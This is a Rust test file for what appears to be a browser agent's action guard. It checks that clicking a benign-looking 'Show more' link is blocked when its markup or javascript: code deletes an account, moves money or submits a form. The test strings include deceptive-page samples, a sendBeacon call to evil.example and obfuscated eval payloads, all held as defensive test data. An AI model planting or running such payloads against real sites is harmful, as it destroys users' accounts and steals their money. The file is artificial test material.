//! What a page's program does at a press, where the markup tells: methods and addresses that libraries
//! read from attributes, handlers, and links that are programs.

use super::*;

const GOAL: &str = "Find out what I spent on groceries";
const BANK: &str = "https://bank.example/accounts";

fn leaves(goal: &str, html: &str) -> bool {
    let mut visit = Visit::begin(goal, BANK, html);
    visit.weigh(&action("click(9)")) == Verdict::Pass
}

fn left(pages: impl IntoIterator<Item = String>) -> Vec<String> {
    let pages = pages.into_iter();
    pages.filter(|html| leaves(GOAL, html)).collect()
}

/// Attributes that say what is asked for, as libraries have them.
const REQUESTS: [&str; 40] = [
    r#"data-method="delete""#,
    r#"data-method="DELETE""#,
    r#"data-turbo-method="delete""#,
    r#"data-http-method="delete""#,
    r#"data-ajax-method="Delete""#,
    r#"up-method="delete""#,
    r#"data-confirm="Really delete your account?""#,
    r#"data-turbo-confirm="Konto wirklich löschen?""#,
    r#"data-turbo-confirm="Supprimer le compte ?""#,
    r#"data-confirm="¿Eliminar la cuenta?""#,
    r#"data-confirm-message="Transfer 500 EUR to Eve?""#,
    r#"up-confirm="Pay 500 now?""#,
    r#"wire:confirm="Eliminare il conto?""#,
    r#"hx-confirm="Usunąć konto?""#,
    r#"data-hx-confirm="Excluir a conta?""#,
    r#"hx-delete="/posts/7""#,
    r#"data-hx-delete="/posts/7""#,
    r#"hx-post="/account/delete""#,
    r#"hx-post="/transfer?to=eve&amount=100""#,
    r#"data-hx-post="/pay""#,
    r#"hx-put="/konto/loeschen""#,
    r#"hx-patch="/users/7/promote""#,
    r#"hx-get="/account/delete?confirm=1""#,
    r#"hx-post="/x" hx-vals='{"amount": 1000, "to": "eve"}'"#,
    r#"data-hx-vals='{"action": "delete"}' hx-post="/x""#,
    r#"ic-delete-from="/posts/7""#,
    r#"ic-post-to="/account/delete""#,
    r#"data-url="/account/delete""#,
    r#"data-href="/konto/löschen""#,
    r#"data-post="/compte/supprimer""#,
    r#"data-remote="true" data-url="/pay?amount=20" data-type="json""#,
    r#"data-params="amount=1000&to=eve" data-url="/x""#,
    r#"phx-click="delete_account""#,
    r#"wire:click="deleteAccount(7)""#,
    r#"@click="removeAccount()""#,
    r#"v-on:click="buyNow""#,
    r#"x-on:click="transferFunds(500)""#,
    r#"ng-click="vm.deleteAccount()""#,
    r#"(click)="payInvoice()""#,
    r#"data-action="click->account#destroy""#,
];

#[test]
fn what_a_library_reads_from_an_attribute_is_what_a_press_does() {
    let pages = REQUESTS.iter().flat_map(|attribute| {
        [
            format!(r#"<button {attribute} data-id="9">Show more</button>"#),
            format!(r##"<a href="#" {attribute} data-id="9">Details</a>"##),
            format!(r#"<a href="/posts/7" {attribute} data-id="9">Show details</a>"#),
        ]
    });
    assert_eq!(left(pages), [""; 0]);
}

#[test]
fn attributes_that_ask_for_nothing_are_of_no_weight() {
    const PLAIN: [&str; 22] = [
        r#"data-method="get""#,
        r#"data-turbo="false""#,
        r#"data-turbo-frame="orders""#,
        r#"data-turbo-method="get""#,
        r##"hx-get="/orders?page=2" hx-target="#list""##,
        r#"hx-get="/search" hx-vals='{"page": 2}'"#,
        r#"data-url="/orders?page=2""#,
        r##"data-href="#details""##,
        r##"data-bs-toggle="collapse" data-bs-target="#more""##,
        r#"data-action="click->list#expand""#,
        r#"data-action="toggle""#,
        r#"onclick="showMore()""#,
        r#"onclick="toggle(this); return false;""#,
        r#"onclick="event.preventDefault(); open = !open""#,
        r#"@click="open = !open""#,
        r#"@click="page += 1""#,
        r#"v-on:click="expanded = true""#,
        r#"ng-click="vm.showDetails(7)""#,
        r#"wire:click="loadMore""#,
        r#"phx-click="next-page""#,
        r#"data-testid="show-more" data-analytics="orders_more""#,
        r#"data-remote="true""#,
    ];
    let held: Vec<&str> = PLAIN
        .into_iter()
        .filter(|attribute| {
            !leaves(
                GOAL,
                &format!(r#"<button {attribute} data-id="9">Show more</button>"#),
            )
        })
        .collect();
    assert_eq!(held, [""; 0]);
}

/// Programs that do something, however they are written.
const PROGRAMS: [&str; 36] = [
    "deleteAccount()",
    "account.destroy(7)",
    "a(); deleteAccount(); b()",
    "if (ok) { shop.payNow(7) }",
    "void deleteAccount()",
    "void(fetch('/account/delete'))",
    "fetch('/account/delete', {method: 'POST'})",
    "fetch('/account', {method: 'DELETE'})",
    "fetch(`/konto/loeschen`)",
    "$.post('/transfer', {to: 'eve', amount: 1000})",
    "$.ajax({url: '/x', type: 'DELETE'})",
    "axios.delete('/x/7')",
    "axios.post('/pay')",
    "navigator.sendBeacon('https://evil.example/c')",
    "location='/account/delete?confirm=1'",
    "location.href = '/transfer?to=eve&amount=5'",
    "window.location.assign('/compte/supprimer')",
    "window.open('https://evil.example/transfer?to=eve&amount=5')",
    "document.forms[0].submit()",
    "document.getElementById('pay').requestSubmit()",
    "this.form.submit()",
    "__doPostBack('ctl00$main$btnDelete','')",
    "__doPostBack('ctl00$main$lnkTransfer','500')",
    "WebForm_DoPostBackWithOptions(new WebForm_PostBackOptions('btnPay', '', true))",
    "document.querySelector('#delete-account').click()",
    "eval(atob('ZGVsZXRlQWNjb3VudCgp'))",
    "eval('del'+'eteAcc'+'ount()')",
    "new Function('return 1')()",
    "window['del'+'ete']()",
    "self[atob('YWxlcnQ=')]()",
    "setTimeout('deleteAccount()', 1)",
    "(()=>{kontoLoeschen()})()",
    "location.href='data:text/html,x'",
    "import('/x.js')",
    "document.write('x')",
    "\\u0064eleteAccount()",
];

#[test]
fn a_link_that_is_a_program_does_what_the_program_says() {
    let pages = PROGRAMS.iter().flat_map(|program| {
        let program = program.replace('"', "&quot;");
        let percent = program.replace('e', "%65");
        [
            format!(r#"<a href="javascript:{program}" data-id="9">Show more</a>"#),
            format!(r#"<a href=" JavaScript:{program}" data-id="9">Details</a>"#),
            format!(r#"<a href="java&#10;script:{program}" data-id="9">Next</a>"#),
            format!(r#"<a href="javascript:{percent}" data-id="9">Next</a>"#),
            format!(r#"<button onclick="{program}" data-id="9">Show more</button>"#),
            format!(r#"<div onmousedown="{program}" data-id="9">Show more</div>"#),
            format!(
                r#"<a href="/orders" onclick="{program}; return false" data-id="9">Show orders</a>"#
            ),
        ]
    });
    assert_eq!(left(pages), [""; 0]);
}

#[test]
fn a_program_that_only_shows_something_is_run() {
    const SHOWS: [&str; 16] = [
        "void(0)",
        "void 0",
        ";",
        "",
        "//",
        "return false",
        "history.back()",
        "window.history.go(-1)",
        "window.print()",
        "toggleMenu()",
        "showTab('details')",
        "openDialog(3)",
        "window.scrollTo(0, 0)",
        "document.getElementById('more').style.display='block'",
        "this.classList.toggle('open')",
        "location.href='/orders?page=2'",
    ];
    let held: Vec<&str> = SHOWS
        .into_iter()
        .filter(|program| {
            !leaves(
                GOAL,
                &format!(r#"<a href="javascript:{program}" data-id="9">Show more</a>"#),
            )
        })
        .collect();
    assert_eq!(held, [""; 0]);
}

#[test]
fn a_goal_that_names_the_deed_runs_its_program() {
    for html in [
        r#"<h1>Account</h1><button data-turbo-method="delete" data-turbo-confirm="Really delete your account?" data-id="9">Delete account</button>"#,
        r#"<h1>Account</h1><button hx-delete="/account" data-id="9">Delete account</button>"#,
        r#"<h1>Account</h1><a href="javascript:deleteAccount()" data-id="9">Delete account</a>"#,
        r#"<h1>Account</h1><button onclick="fetch('/account/delete', {method: 'POST'})" data-id="9">Delete account</button>"#,
    ] {
        assert!(leaves("Delete my account", html), "{html}");
    }
}
